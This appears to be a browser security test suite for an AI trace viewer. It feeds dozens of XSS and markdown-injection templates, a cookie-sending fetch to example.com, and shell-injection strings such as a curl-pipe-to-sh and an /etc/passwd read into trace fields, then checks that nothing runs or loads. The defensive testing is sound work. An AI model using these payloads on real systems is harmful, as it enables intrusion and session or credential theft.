import { execFileSync } from 'node:child_process';
import type { Page } from 'playwright-core';
import { describeInBrowser } from './support/describe-in-browser.js';
import { goInside } from './support/go-inside.js';
import { copied, rowsOf, spanOf } from './support/page-parts.js';
import type { SentSpan } from './support/shop-traces.js';

/**
 * Scripts that are inserted into the templates. Each would change the page or contact another origin if the page ran
 * it.
 */
const scripts = [
  'document.documentElement.dataset.ran=1',
  'window.ran=1',
  "fetch('https://example.com/'+document.cookie)",
  "location='https://example.com'",
  'alert(1)',
];
const templates: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<img src=x onerror="${script}">`,
  (script) => `<svg onload="${script}"><circle r="4"/></svg>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  (script) => `<a href="javascript:${script}">click</a>`,
  (script) => `<body onload="${script}">`,
  (script) => `<details open ontoggle="${script}"><summary>s</summary></details>`,
  (script) => `<input autofocus onfocus="${script}">`,
  (script) => `<style>@import url(https://example.com/${script.length}.css)</style>`,
  (script) => `<link rel=stylesheet href=https://example.com/${script.length}.css>`,
  (script) => `<base href="https://example.com/"><p>${script}</p>`,
  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  (script) => `<video src="https://example.com/v.mp4" onerror="${script}"></video>`,
  (script) => `<object data="data:text/html,<script>${script}</script>"></object>`,
  (script) => `![image](https://example.com/${script.length}.png)`,
  (script) => `![image](data:image/svg+xml,<svg onload="${script}"/>)`,
  (script) => `[link](javascript:${script})`,
  (script) => `[link](  jAvAsCrIpT:${script} "title")`,
  (script) => `[link](java\u0000script:${script})`,
  (script) => `[link](data:text/html;base64,PHNjcmlwdD4=) ${script}`,
  (script) => `[link](vbscript:${script})`,
  (script) => `<javascript:${script}>`,
  (script) => `[reference][1]\n\n[1]: javascript:${script}`,
  (script) => `\`\`\`html\n<script>${script}</script>\n\`\`\``,
  (script) => `\`\`\`${script}"><script>\ncode\n\`\`\``,
  (script) => `| a |\n|---|\n| <img src=x onerror="${script}"> |`,
  (script) => `{"html":"<script>${script}</script>","__proto__":{"ran":1}}`,
  (script) => `{{constructor.constructor('${script}')()}} \${${script}}`,
  (script) => `'"><script>${script}</script>`,
  (script) => `</textarea></title></style><script>${script}</script>`,
  (script) => `<math><mtext><style><img src=x onerror="${script}"></style></mtext></math>`,
  (script) => `before \u202E${script}\u202C after`,
  (script) => `\u2066${script}\u2069 \u200F\u061C`,
  (script) => `\u0000\u0007\u001B[31m${script}\u001B]0;title\u0007`,
  (script) => `'; touch /tmp/owned; ${script}; '`,
  (script) => `$(touch owned) \`touch owned\` ${script}`,
  (script) => `"; curl https://example.com | sh; "${script}`,
  (script) => `\\'; touch owned #${script}`,
  (script) => `-o /etc/passwd @/etc/passwd ${script}`,
];
const roles = ['user', 'tool', '<b>system</b>'];
const contents = templates.flatMap((template) => scripts.map(template));
/**
 * Number of spans among which the texts are divided. Each text is used as a message, an attribute and a name in one of
 * these spans. One additional span has all texts as attributes and names, but only some as messages, because the
 * conversation renders all messages in the same way.
 */
const PARTS = 10;
const whole = `bad${PARTS.toString(16)}`.padEnd(16, '0');
const traceId = 'bad0'.repeat(8);
const startMs = Date.now() - 60_000;

const spans: readonly SentSpan[] = Array.from({ length: PARTS + 1 }, (_, number) => {
  const own = contents.filter((_content, at) => number === PARTS || at % PARTS === number);
  const [first = ''] = own;
  const said = own.slice(0, contents.length / PARTS);
  return {
    trace_id: traceId,
    span_id: `bad${number.toString(16)}`.padEnd(16, '0'),
    span_name: first,
    start_time: new Date(startMs + number).toISOString(),
    end_time: new Date(startMs + number + 1).toISOString(),
    status_code: 'STATUS_CODE_ERROR',
    status_message: own.at(-1) ?? '',
    attributes: {
      'ag.type.span': number === PARTS ? 'task' : 'chat',
      'ag.meta.request.model': first,
      'ag.session.id': first,
      'ag.user.id': first,
      'ag.data': {
        inputs: {
          prompt: said.map((content, at) => ({
            role: roles[at % roles.length],
            name: content,
            content,
          })),
          tools: said.map((name) => ({ type: 'function', function: { name } })),
        },
        outputs: {
          completion: said.map((content) => ({
            role: 'assistant',
            thinking: content,
            tool_calls: [{ id: content, function: { name: content, arguments: content } }],
            content: [
              { type: 'text', text: content },
              { type: 'image_url', image_url: { url: content } },
              { type: 'image_url', image_url: { url: 'https://example.com/pixel.png' } },
              {
                type: 'image_url',
                image_url: {
                  url: `data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${content}"><script>${content}</script></svg>`).toString('base64')}`,
                },
              },
            ],
            finish_reason: content,
          })),
        },
      },
      hostile: Object.fromEntries(own.map((content, at) => [`key ${at} ${content}`, content])),
    },
    events: own.map((content) => ({
      name: content,
      timestamp: new Date(startMs + number).toISOString(),
      attributes: { 'exception.stacktrace': content, [content]: content },
    })),
    links: [{ trace_id: traceId, span_id: 'bad0'.padEnd(16, '0'), attributes: { why: first } }],
    references: [{ slug: 'app', attributes: { [`a ${first}`]: first } }],
    resource: { attributes: { 'service.name': first, [first]: first } },
  };
});

/** Tabs of a span, with the minimum number of hostile texts in each. */
const parts = [
  ['overview', 1],
  ['messages', contents.length / PARTS],
  ['attributes', contents.length],
  ['attributes&form=tree', 1],
  ['events', contents.length],
  ['links', 1],
  ['references', 1],
  ['raw', 1],
  ['raw&form=text', 1],
] as const;

describeInBrowser('hostile contents', { spans }, (running) => {
  const addressOf = (search: string) => `${running.spanhouse.url}/ui/traces/${traceId}?${search}`;
  const open = async (search: string) => {
    const page = await running.visitor.open(addressOf(search));
    await spanOf(page).getByRole('heading', { level: 2 }).waitFor();
    return page;
  };

  // The test also fails if the page violates the content security policy, reports an error, or sends a request to
  // another origin.
  const findHarm = (page: Page) =>
    page.evaluate(() => [
      ...('ran' in window || document.documentElement.dataset['ran'] ? ['a script ran'] : []),
      ...[
        ...document.querySelectorAll(
          'main script, main iframe, main object, main style, main base, main link, main video, main [onload], main [onerror], a[href^="javascript" i], a[href^="data" i], a[href^="vbscript" i], img:not([src^="blob:"])',
        ),
      ].map(({ outerHTML }) => outerHTML),
      ...[...document.querySelectorAll('main')]
        .flatMap(
          ({ textContent }) =>
            textContent?.match(/(?![\t\n\r])\p{Cc}|[\u202A-\u202E\u2066-\u2069]/gu) ?? [],
        )
        .map((character) => `the control character ${character.codePointAt(0)}`),
    ]);

  it('run nothing and load nothing in a conversation', async () => {
    const page = await open('tab=conversation');
    await page.getByText(`call ${PARTS} of ${PARTS}`).waitFor();
    await page.evaluate(() => {
      for (const summary of document.querySelectorAll('article summary')) {
        summary.parentElement?.setAttribute('open', '');
      }
    });

    expect(await findHarm(page)).toEqual([]);
  });

  it('run nothing and load nothing in any part of a span', async () => {
    const page = await open(`s=${whole}`);
    for (const [part, atLeast] of parts) {
      await goInside(page, addressOf(`s=${whole}&part=${part}`));
      await page
        .getByRole('tab', { name: new RegExp(`^${/\w+/.exec(part)}`, 'i'), selected: true })
        .waitFor();
      await running.visitor.untilStill(page);

      const shown = await spanOf(page).textContent();
      const found = shown?.match(/ran=1|example\.com|alert\(1\)/g)?.length ?? 0;
      expect({ part, isShown: found >= atLeast }).toEqual({ part, isShown: true });
      expect({ part, harm: await findHarm(page) }).toEqual({ part, harm: [] });
    }
  });

  it('run nothing and load nothing in any view of a trace', async () => {
    const page = await open('tab=conversation');
    for (const tab of ['waterfall', 'flame', 'steps', 'log', 'table']) {
      await goInside(page, addressOf(`tab=${tab}`));
      await page.getByRole('tab', { name: new RegExp(`^${tab}`, 'i'), selected: true }).waitFor();
      await running.visitor.untilStill(page);

      expect({ tab, harm: await findHarm(page) }).toEqual({ tab, harm: [] });
    }
  });

  it('run nothing and load nothing in lists, and in the commands that they copy', async () => {
    for (const list of ['spans', 'traces']) {
      const page = await running.open(`${list}?w=all`);
      await page.getByRole('grid').getByRole('row').nth(1).waitFor();
      expect(await findHarm(page)).toEqual([]);
    }

    const q = JSON.stringify(`'; touch owned; $(touch owned) \`touch owned\``);
    const page = await running.open(`spans?w=all&q=${encodeURIComponent(`name:${q}`)}`);
    await page.getByRole('button', { name: 'More' }).click();
    await page.getByRole('menuitem', { name: 'Copy as curl' }).click();
    await page.getByRole('status').getByText('Copied').waitFor();
    const command = await copied(page);
    expect(command).toContain('$(touch owned)');
    expect(command).toContain(`'${running.spanhouse.url}/api/spans/query'`);
    const script = `curl() { printf '%s' "$#"; }; touch() { kill $$; };\n${command}`;
    const output = execFileSync('/bin/sh', ['-c', script], { encoding: 'utf8' });
    expect(output).toMatch(/^\d+$/);
  });

  it('stay inside their rows in the list of sessions', async () => {
    const page = await running.open('sessions?w=all', {
      viewport: { width: 400, height: 700 },
    });
    const rows = rowsOf(page, 'Sessions');
    await rows.nth(1).waitFor();

    const heights = await rows.evaluateAll((all) =>
      all.map((row) => [row.clientHeight, row.scrollHeight]),
    );
    expect(heights.filter(([room = 0, needed = 0]) => needed > room)).toEqual([]);
  });

  it('stay inside a narrow window on the page of a session', async () => {
    const id = encodeURIComponent(contents[0] ?? '');
    const page = await running.open(`sessions/${id}`, {
      viewport: { width: 400, height: 700 },
    });
    await page.getByRole('feed').getByRole('article').first().waitFor();

    const links = page.getByRole('main').getByRole('link');
    const ends = await links.evaluateAll((all) =>
      all.map((link) => link.getBoundingClientRect().right),
    );
    expect(Math.max(...ends)).toBeLessThanOrEqual(400);
  });
});
